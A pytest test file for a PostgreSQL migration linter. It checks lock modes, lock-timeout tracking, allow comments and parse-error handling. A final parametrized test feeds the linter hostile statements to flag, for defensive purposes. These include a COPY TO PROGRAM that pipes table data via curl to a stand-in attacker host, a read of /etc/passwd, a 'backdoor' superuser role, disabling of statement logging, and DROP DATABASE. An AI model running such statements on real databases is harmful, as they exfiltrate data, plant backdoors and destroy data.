"""How the lint reads a script: lock levels, transactions, timeouts, allow comments, bad input."""

from __future__ import annotations

import pytest

from advisor.lint import LockMode, Severity, lint_sql


def locks(sql: str) -> list[tuple[str, str]]:
    report = lint_sql(sql)
    return [(lk.relation, lk.mode.label) for st in report.statements for lk in st.locks]


@pytest.mark.parametrize(("sql", "expected"), [
    ("CREATE INDEX i ON t (a)", [("t", "SHARE")]),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", [("t", "SHARE UPDATE EXCLUSIVE")]),
    ("ALTER TABLE t ADD COLUMN c int", [("t", "ACCESS EXCLUSIVE")]),
    ("ALTER TABLE t VALIDATE CONSTRAINT c", [("t", "SHARE UPDATE EXCLUSIVE")]),
    ("ALTER TABLE t SET (autovacuum_vacuum_scale_factor = 0.01)", [("t", "SHARE UPDATE EXCLUSIVE")]),
    ("ALTER TABLE t SET (autovacuum_enabled = off), ALTER COLUMN c SET NOT NULL", [("t", "ACCESS EXCLUSIVE")]),
    ("ALTER TABLE s.t ADD CONSTRAINT f FOREIGN KEY (a) REFERENCES u (id) NOT VALID",
     [("s.t", "SHARE ROW EXCLUSIVE"), ("u", "SHARE ROW EXCLUSIVE")]),
    ("ALTER TABLE t ALTER COLUMN c SET STATISTICS 500", [("t", "SHARE UPDATE EXCLUSIVE")]),
    ("ALTER TABLE t DISABLE TRIGGER ALL", [("t", "SHARE ROW EXCLUSIVE")]),
    ("ALTER INDEX i RENAME TO j", [("i", "SHARE UPDATE EXCLUSIVE")]),
    ("DROP INDEX CONCURRENTLY i", [("i", "SHARE UPDATE EXCLUSIVE")]),
    ("VACUUM (FULL) t", [("t", "ACCESS EXCLUSIVE")]),
    ("VACUUM t", [("t", "SHARE UPDATE EXCLUSIVE")]),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY m", [("m", "EXCLUSIVE")]),
    ("BEGIN; LOCK TABLE t IN SHARE ROW EXCLUSIVE MODE; COMMIT", [("t", "SHARE ROW EXCLUSIVE")]),
    ("UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)", [("t", "ROW EXCLUSIVE"), ("u", "ACCESS SHARE")]),
    ("CREATE TRIGGER x BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", [("t", "SHARE ROW EXCLUSIVE")]),
])
def test_it_names_the_lock_each_statement_takes(sql: str, expected: list[tuple[str, str]]) -> None:
    assert locks(sql) == expected


def test_it_says_what_a_lock_blocks() -> None:
    report = lint_sql("SET lock_timeout = '1s';\nCREATE INDEX i ON t (a);\nALTER TABLE t DROP COLUMN b;")
    index, drop = (st.locks[0].to_dict() for st in report.statements[1:])
    assert (index["blocks_reads"], index["blocks_writes"]) == (False, True)
    assert (drop["blocks_reads"], drop["blocks_writes"]) == (True, True)
    assert LockMode.SHARE_UPDATE_EXCLUSIVE.label == "SHARE UPDATE EXCLUSIVE"


def test_it_tracks_lock_timeout_through_transactions() -> None:
    sql = """
BEGIN;
SET LOCAL lock_timeout = '2s';
ALTER TABLE t ADD COLUMN a int;
COMMIT;
ALTER TABLE t ADD COLUMN b int;
SET lock_timeout = '3s';
ALTER TABLE t ADD COLUMN c int;
SET lock_timeout = 0;
ALTER TABLE t ADD COLUMN d int;
"""
    flagged = [f.line for f in lint_sql(sql).findings if f.rule == "missing-lock-timeout"]
    assert flagged == [6, 10]  # SET LOCAL ends with COMMIT; 0 turns the timeout off


def test_it_treats_the_whole_script_as_one_transaction_when_told() -> None:
    sql = "CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON t (a);"
    assert "concurrently-in-transaction" not in lint_sql(sql).rules()
    assert "concurrently-in-transaction" in lint_sql(sql, in_transaction=True).rules()


def test_it_skips_plain_index_builds_on_tables_created_in_the_same_script() -> None:
    report = lint_sql("CREATE TABLE n (a int);\nCREATE INDEX n_a ON n (a);\nALTER TABLE n ADD CHECK (a > 0);")
    assert not report.reaches(Severity.WARNING)


def test_it_recognises_a_column_swap() -> None:
    sql = """SET lock_timeout = '1s';
ALTER TABLE t RENAME COLUMN id TO id_old;
ALTER TABLE t RENAME COLUMN id_new TO id;
ALTER TABLE t RENAME COLUMN note TO remark;"""
    found = [(f.line, f.severity) for f in lint_sql(sql).findings if f.rule == "rename-column"]
    assert found == [(2, Severity.INFO), (3, Severity.INFO), (4, Severity.WARNING)]


def test_it_keeps_allowed_findings_but_does_not_count_them() -> None:
    sql = "SET lock_timeout = '1s';\n-- dbconsole: allow drop-column, rename-table\nALTER TABLE t DROP COLUMN x;"
    report = lint_sql(sql)
    assert [(f.rule, f.allowed) for f in report.findings] == [("drop-column", True)]
    assert report.worst() is None and not report.reaches(Severity.INFO)


def test_it_reports_what_it_cannot_parse_without_crashing() -> None:
    report = lint_sql("SELECT 1;\nSELECT 'unterminated")
    assert [f.rule for f in report.findings] == ["parse-error"]
    assert report.findings[0].line == 1 and "unterminated" in report.findings[0].message
    assert lint_sql("").statements == [] and lint_sql("-- only a comment\n").statements == []


def test_it_points_at_the_line_of_each_statement() -> None:
    sql = "-- header\n\nSET lock_timeout = '1s';\n/* block\n comment */ CREATE INDEX\n  i ON t (a);\n"
    report = lint_sql(sql)
    assert [st.line for st in report.statements] == [3, 5]
    assert report.findings[0].line == 5


def test_it_knows_which_defaults_rewrite() -> None:
    def rules(default: str) -> set[tuple[str, str]]:
        report = lint_sql(f"SET lock_timeout = '1s'; ALTER TABLE t ADD COLUMN c timestamptz DEFAULT {default};")
        return {(f.rule, f.severity.value) for f in report.findings}

    assert rules("clock_timestamp()") == {("volatile-default", "critical")}
    assert rules("now()") == {("stable-default", "info")}
    assert rules("CURRENT_TIMESTAMP") == {("stable-default", "info")}
    assert rules("'2024-01-01'") == {("constant-default", "info")}
    assert rules("my_func()") == {("volatile-default", "warning")}


def test_it_reports_json_ready_dicts() -> None:
    data = lint_sql("CREATE INDEX i ON t (a);").to_dict()
    assert data["worst"] == "critical" and data["summary"] == {"info": 0, "warning": 1, "critical": 1}
    (statement,) = data["statements"]
    assert statement["locks"][0]["mode"] == "SHARE" and statement["locks"][0]["blocks_writes"] is True
    assert {f["rule"] for f in statement["findings"]} == {"create-index-not-concurrent", "missing-lock-timeout"}


@pytest.mark.parametrize(("sql", "expected"), [
    ("SELECT 'injected-from-table-name'", ("unexpected-statement", "warning")),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", ("unexpected-statement", "warning")),
    ("NOTIFY deploys", ("unexpected-statement", "warning")),
    ("CALL refresh_everything()", ("unexpected-statement", "warning")),
    ("COPY orders FROM STDIN", ("unexpected-statement", "warning")),
    ("EXPLAIN ANALYZE DELETE FROM orders", ("unexpected-statement", "warning")),
    ("COPY orders TO PROGRAM 'curl -d @- https://evil.example'", ("privileged-statement", "critical")),
    ("COPY orders FROM '/etc/passwd'", ("privileged-statement", "critical")),
    ("ALTER SYSTEM SET log_statement = 'none'", ("privileged-statement", "critical")),
    ("CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x'", ("privileged-statement", "critical")),
    ("GRANT pg_read_server_files TO app", ("privileged-statement", "critical")),
    ("SET ROLE postgres", ("privileged-statement", "critical")),
    ("SET SESSION AUTHORIZATION postgres", ("privileged-statement", "critical")),
    ("LOAD 'auto_explain'", ("privileged-statement", "critical")),
    ("DROP DATABASE shop", ("privileged-statement", "critical")),
])
def test_it_flags_statements_a_migration_does_not_contain(sql: str, expected: tuple[str, str]) -> None:
    report = lint_sql(sql)
    assert [(f.rule, f.severity.value) for f in report.findings if f.rule.endswith("-statement")] == [expected]
    assert all(f.safe_alternative for f in report.findings)


@pytest.mark.parametrize("sql", [
    "SELECT setval('orders_id_seq', (SELECT max(id) FROM orders))",
    "SELECT pg_advisory_xact_lock(42)",
    "SELECT * INTO orders_copy FROM orders",
    "RESET ROLE",
    "GRANT SELECT ON orders TO reporting",
    "COMMENT ON TABLE orders IS 'the orders'",
    "CREATE EXTENSION IF NOT EXISTS pg_trgm",
    "INSERT INTO orders (id) VALUES (1)",
])
def test_it_expects_what_migrations_do(sql: str) -> None:
    assert not [f for f in lint_sql(sql).findings if f.rule.endswith("-statement")]
